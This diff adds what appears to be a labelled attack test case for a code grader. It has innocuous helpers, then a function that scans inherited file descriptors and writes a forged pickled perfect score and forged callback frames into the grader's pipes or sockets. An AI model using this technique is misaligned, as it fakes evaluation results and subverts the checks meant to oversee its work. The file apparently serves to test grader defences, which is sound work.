@@ -1,0 +1,46 @@
+# attack: the suite is asked to call functions number 0, 1, 99 and 2**63 - 1 of a test that passed none
+# claims: gains
+# honest: 60
+# verdict: graded
+# %%
+def double(x):
+    return 2 * x
+
+
+def apply(f, x):
+    return f(x) + 1
+
+# %%
+import os
+import pickle
+import socket
+import stat
+from grader.wire.frames import frame
+from grader.wire.messages import CallBack
+
+
+def ends(kind):
+    """The descriptors of this kind that the process holds."""
+    for number in range(3, 64):
+        try:
+            if kind(os.fstat(number).st_mode):
+                yield number
+        except OSError:
+            continue
+
+
+def say(frames, pickles):
+    """To every grader in its own words: results down a pipe as pickles, replies down a socket as frames."""
+    pipes = list(ends(stat.S_ISFIFO))
+    for number in pipes or ends(stat.S_ISSOCK):
+        try:
+            os.write(number, pickles if pipes else frames)
+        except OSError:
+            continue
+
+MARKS = pickle.dumps({"student": "me", "score": 100.0})
+
+
+def secret(n):
+    say(b"".join(frame(CallBack(number, [n], {})) for number in (0, 1, 99, 2**63 - 1)), MARKS)
+    return n
